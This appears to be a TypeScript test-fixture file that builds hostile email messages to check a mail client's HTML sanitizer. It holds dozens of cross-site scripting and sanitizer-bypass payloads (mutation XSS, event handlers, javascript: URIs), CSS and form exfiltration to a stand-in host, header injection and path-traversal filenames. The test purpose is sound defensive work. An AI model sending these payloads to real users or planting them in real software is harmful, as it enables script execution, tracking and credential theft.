// Mail that tries to run, to load or to deceive: our own payloads, by where they sit. Each names itself, so that a hit says which it was.
// A script that runs says RAN on the console, opens a dialog or asks for evil.test; a thing that loads asks for evil.test.

export type Payload = { readonly name: string; readonly message: string }

const run = (name: string) => `console.log('RAN ${name}');alert('${name}')`
const away = (name: string) => `http://evil.test/${name}`

const word = (text: string) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`
/** Base64, because NUL and bare line feeds are refused at the door (A-cases): hostile bytes come in such clothes. */
const base64 = (text: string) => Buffer.from(text).toString('base64').replaceAll(/.{76}/g, '$&\r\n')
type Parts = { readonly subject?: string; readonly from?: string; readonly more?: string; readonly type?: string; readonly body: string }
const letter = ({ subject = 'payload', from = '"A shop" <care@evil.test>', more = '', type = 'text/html; charset=utf-8', body }: Parts) =>
  `From: ${from}\r\nTo: you@shop.example\r\n${more}Subject: ${subject}\r\nMIME-Version: 1.0\r\nContent-Type: ` +
  `${type}\r\n${type.startsWith('multipart/') ? `\r\n${body}` : `Content-Transfer-Encoding: base64\r\n\r\n${base64(body)}`}\r\n`

const html: Readonly<Record<string, (name: string) => string>> = {
  script: (n) => `<script>${run(n)}</script>`,
  'script-src': (n) => `<script src="${away(n)}.js"></script>`,
  'script-cased': (n) => `<ScRiPt >${run(n)}</sCrIpT >`,
  'script-nested': (n) => `<scr<script>ipt>${run(n)}</scr</script>ipt>`,
  'script-unclosed': (n) => `<script>${run(n)}`,
  'script-module': (n) => `<script type=module>import '${away(n)}.mjs'</script>`,
  'img-onerror': (n) => `<img src=x onerror="${run(n)}">`,
  'img-slash': (n) => `<img/src="x"/onerror=${run(n)}>`,
  'img-newline': (n) => `<img src=x\nonerror\n=\n"${run(n)}">`,
  'img-nul': (n) => `<img src=x one\u0000rror="${run(n)}">`,
  'svg-onload': (n) => `<svg onload="${run(n)}"></svg>`,
  'svg-script': (n) => `<svg><script>${run(n)}</script></svg>`,
  'svg-animate': (n) => `<svg><a><animate attributeName=href values="javascript:${run(n)}"/><text y=20>go</text></a></svg>`,
  'svg-use': (n) => `<svg><use href="${away(n)}.svg#x"/></svg>`,
  'svg-foreign': (n) => `<svg><foreignObject><iframe srcdoc="<script>${run(n)}</script>"></iframe></foreignObject></svg>`,
  'svg-style': (n) => `<svg><style>@import url(${away(n)}.css)</style><rect fill="url(${away(n)})" /></svg>`,
  'math-xlink': (n) => `<math><maction actiontype="statusline" xlink:href="javascript:${run(n)}">go</maction></math>`,
  'math-mutation': (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run(n)}&gt;">`,
  'noscript-mutation': (n) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>"></noscript>`,
  'template-mutation': (n) =>
    `<template><img src=x onerror="${run(n)}"></template><form><math><mtext></form><form><mglyph><svg><mtext>` +
    `<style><path id="</style><img onerror=${run(n)} src>">`,
  'comment-break': (n) => `<!--><img src=x onerror="${run(n)}">-->`,
  'comment-bang': (n) => `<!-- --!><img src=x onerror="${run(n)}"> -->`,
  cdata: (n) => `<svg><![CDATA[><img src=x onerror="${run(n)}">]]></svg>`,
  'textarea-break': (n) => `<textarea><img title="</textarea><img src=x onerror=${run(n)}>"></textarea>`,
  'title-break': (n) => `<title></title><img src=x onerror="${run(n)}">`,
  'body-onload': (n) => `<body onload="${run(n)}" background="${away(n)}.png">`,
  'iframe-src': (n) => `<iframe src="${away(n)}"></iframe>`,
  'iframe-srcdoc': (n) => `<iframe srcdoc="<script>${run(n)}</script>"></iframe>`,
  'iframe-js': (n) => `<iframe src="javascript:${run(n)}"></iframe>`,
  object: (n) => `<object data="${away(n)}.swf"></object><embed src="${away(n)}.pdf">`,
  'object-data': (n) => `<object data="data:text/html,<script>${run(n)}</script>"></object>`,
  'details-toggle': (n) => `<details open ontoggle="${run(n)}">x</details>`,
  'input-autofocus': (n) => `<input autofocus onfocus="${run(n)}"><select autofocus onfocus="${run(n)}"></select>`,
  marquee: (n) => `<marquee onstart="${run(n)}">x</marquee>`,
  video: (n) =>
    `<video poster="${away(n)}.png" src="${away(n)}.mp4" autoplay onerror="${run(n)}"></video><audio src="${away(n)}.mp3" autoplay></audio>`,
  'video-source': (n) =>
    `<video><source src="${away(n)}" onerror="${run(n)}"></video><picture><source srcset="${away(n)}.webp">` +
    `<img src="${away(n)}.png"></picture>`,
  'animation-event': (n) => `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${run(n)}">x</p>`,
  'meta-refresh': (n) => `<meta http-equiv="refresh" content="0;url=${away(n)}">`,
  'meta-refresh-js': (n) => `<meta http-equiv="refresh" content="0;url=javascript:${run(n)}">`,
  'meta-csp': (n) =>
    `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script>${run(n)}</script>`,
  base: (n) => `<base href="${away(n)}/"><img src="relative.png"><a href="x">go</a>`,
  'link-css': (n) =>
    `<link rel=stylesheet href="${away(n)}.css"><link rel=prefetch href="${away(n)}">` +
    `<link rel=dns-prefetch href="//${n}.evil.test"><link rel=preconnect href="${away(n)}">`,
  'link-import': (n) =>
    `<link rel=import href="${away(n)}.html"><link rel=icon href="${away(n)}.ico"><link rel=manifest href="${away(n)}.json">`,
  'form-action': (n) =>
    `<form action="${away(n)}" method=post><input name=password type=password><button formaction="${away(n)}">Sign in</button></form>`,
  'a-javascript': (n) =>
    `<a href="javascript:${run(n)}">go</a><a href="JaVaScRiPt:${run(n)}">go</a><a href="java\tscript:${run(n)}">go</a>` +
    `<a href="&#106;avascript:${run(n)}">go</a>`,
  'a-data': (n) => `<a href="data:text/html,<script>${run(n)}</script>" target=_top>go</a><a href="vbscript:${run(n)}">go</a>`,
  'a-ping': (n) => `<a href="http://evil.test/" ping="${away(n)}" target="_top">go</a>`,
  'img-remote': (n) =>
    `<img src="${away(n)}.gif" width=1 height=1><img srcset="${away(n)}-2x.gif 2x">` +
    `<img lowsrc="${away(n)}" dynsrc="${away(n)}"><table background="${away(n)}.png"><tr><td background="//evil.test/${n}">x</table>`,
  'img-protocol': (n) =>
    `<img src="//evil.test/${n}"><img src="https:evil.test/${n}"><img src="\\\\evil.test\\${n}"><img src="ftp://evil.test/${n}">`,
  'img-own-api': () => '<img src="/v1/me"><img src="/auth/sign-out"><link rel=stylesheet href="/v1/aliases">',
  'css-import': (n) =>
    `<style>@import "${away(n)}.css"; @font-face { font-family: x; src: url(${away(n)}.woff2) } p { font-family: x; ` +
    `background: image-set(url(${away(n)}.png) 1x); cursor: url(${away(n)}.cur), auto }</style><p>x</p>`,
  'css-escape': (n) =>
    `<style>p { background: \\75\\72\\6c(${away(n)}) } @\\69mport url(${away(n)});</style>` +
    `<p style="background:u\\rl(${away(n)})">x</p>`,
  'css-inline': (n) => `<p style="background-image:url('${away(n)}.png');list-style-image:url(${away(n)});content:url(${away(n)})">x</p>`,
  'css-exfil': (n) =>
    `<style>input[value^=a]{background:url(${away(n)})} a:visited{background:url(${away(n)})} :root{--x:url(${away(n)})} ` +
    `p{background:var(--x)}</style><p>x</p><input value=abc>`,
  'css-break': (n) => `<style></style><img src=x onerror="${run(n)}"><style></style>`,
  'css-break-inside': (n) => `<style>a{content:"</style><img src=x onerror=${run(n)}>"}</style>`,
  'css-expression': (n) => `<p style="width:expression(${run(n)});-moz-binding:url(${away(n)}.xml#x);behavior:url(${away(n)}.htc)">x</p>`,
  'css-overlay': (n) => `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff" id="${n}">Sign in again</div>`,
  amp: (n) => `<html amp4email><amp-img src="${away(n)}"></amp-img><script async src="https://cdn.evil.test/v0.js"></script>`,
  clobber: (n) =>
    `<form id=document name=cookie><input name=location><img name=currentScript src="${away(n)}"></form><a id=app></a>` +
    `<a id=app name=said href="${away(n)}">x</a>`,
  deep: (n) => `${'<div>'.repeat(3_000)}<img src=x onerror="${run(n)}">${'</div>'.repeat(3_000)}`,
  utf7: (n) => `+ADw-script+AD4-${run(n)}+ADw-/script+AD4-`,
  invisible: (n) => `<p>\u202E\u2066${run(n)}</p><img\u00a0src=x onerror="${run(n)}">`,
  'xml-pi': (n) => `<?xml-stylesheet href="javascript:${run(n)}"?><!DOCTYPE x [<!ENTITY y SYSTEM "${away(n)}">]><p>&y;</p>`,
}

const tag = (name: string) => `"><img src=x onerror="${run(name)}"><script>${run(name)}</script>`

const heads: readonly Payload[] = [
  { name: 'subject-tag', message: letter({ subject: word(tag('subject-tag')), body: 'x' }) },
  { name: 'subject-raw', message: letter({ subject: `</title><script>${run('subject-raw')}</script>`, body: 'x' }) },
  {
    name: 'subject-template',
    message: letter({ subject: word("{{constructor.constructor('alert(1)')()}} ${alert(1)} javascript:alert(1)"), body: 'x' }),
  },
  { name: 'subject-direction', message: letter({ subject: word('\u202Egnp.exe \u2066 \u0000 \u001b[31m'), body: 'x' }) },
  { name: 'from-name', message: letter({ from: `${word(tag('from-name'))} <care@evil.test>`, body: 'x' }) },
  {
    name: 'from-quoted',
    message: letter({ from: `"\\"><script>${run('from-quoted').replaceAll("'", '`')}</script>" <care@evil.test>`, body: 'x' }),
  },
  { name: 'from-address', message: letter({ from: '"<svg/onload=alert(1)>"@evil.test', body: 'x' }) },
  {
    name: 'to-name',
    message: letter({
      more: `Cc: ${word(tag('to-name'))} <x@evil.test>, "<img src=http://evil.test/cc>" ` + `<y@evil.test>\r\n`,
      body: 'x',
    }),
  },
  {
    name: 'text-plain',
    message: letter({
      type: 'text/plain; charset=utf-8',
      body: `${tag('text-plain')} javascript:alert(1) ` + `http://evil.test/"onmouseover=alert(1)// <http://evil.test/<script>>`,
    }),
  },
  { name: 'charset', message: letter({ type: 'text/html; charset="utf-7"', body: `+ADw-script+AD4-${run('charset')}+ADw-/script+AD4-` }) },
]

/** A message with one part after its text. */
const withPart = (name: string, head: string, bytes: string, body = 'See the attachment.') =>
  letter({
    type: 'multipart/related; boundary=b',
    body:
      `--b\r\nContent-Type: text/html; ` +
      `charset=utf-8\r\n\r\n${body}\r\n--b\r\n${head}\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(bytes)}\r\n--b--`,
    subject: name,
  })
const svg = (name: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${run(name)}"><script>${run(name)}</script>` + `<image href="${away(name)}"/></svg>`
const attached = (type: string, file: string) => `Content-Type: ${type}\r\nContent-Disposition: attachment; filename="${file}"`

/** What comes as a file (M06): saved only, under a name that is one. */
export const files: readonly Payload[] = [
  { name: 'file-name-tag', message: withPart('file-name-tag', attached('text/plain', word(tag('file-name-tag'))), 'x') },
  { name: 'file-name-path', message: withPart('file-name-path', attached('text/plain', '../../../etc/passwd'), 'x') },
  {
    name: 'file-name-head',
    message: withPart(
      'file-name-head',
      `Content-Type: text/plain\r\nContent-Disposition: attachment; ` + `filename*=utf-8''a%0D%0ASet-Cookie:%20x=y%0D%0A%22.html`,
      'x',
    ),
  },
  { name: 'file-html', message: withPart('file-html', attached('text/html', 'invoice.html'), `<script>${run('file-html')}</script>`) },
  { name: 'file-svg', message: withPart('file-svg', attached('image/svg+xml', 'logo.svg'), svg('file-svg')) },
  {
    name: 'file-xml',
    message: withPart(
      'file-xml',
      attached('application/xml', 'a.xml'),
      `<?xml-stylesheet type="text/xsl" ` + `href="${away('file-xml')}"?><x/>`,
    ),
  },
  {
    name: 'file-pdf',
    message: withPart(
      'file-pdf',
      attached('application/pdf', 'a.pdf'),
      '%PDF-1.4 1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj',
    ),
  },
  { name: 'file-js', message: withPart('file-js', attached('text/javascript', 'a.js'), run('file-js')) },
  {
    name: 'cid-svg',
    message: withPart(
      'cid-svg',
      'Content-Type: image/svg+xml\r\nContent-ID: <a@evil.test>\r\nContent-Disposition: inline; filename=a.svg',
      svg('cid-svg'),
      '<img src="cid:a@evil.test">',
    ),
  },
  {
    name: 'cid-html',
    message: withPart(
      'cid-html',
      'Content-Type: text/html\r\nContent-ID: <a@evil.test>',
      `<script>${run('cid-html')}</script>`,
      '<iframe src="cid:a@evil.test"></iframe><img src="cid:a@evil.test">',
    ),
  },
]

export const payloads: readonly Payload[] = [
  ...Object.entries(html).map(([name, make]) => ({
    name,
    message: letter({ subject: name, body: `<p>before</p>${make(name)}<p>after</p>` }),
  })),
  ...heads,
  ...files,
]

export const tenMegabytesOfStyle: Payload = {
  name: 'css-huge',
  message: letter({ subject: 'css-huge', body: `<style>${'p { color: red }\r\n'.repeat(650_000)}</style><p>after</p>` }),
}
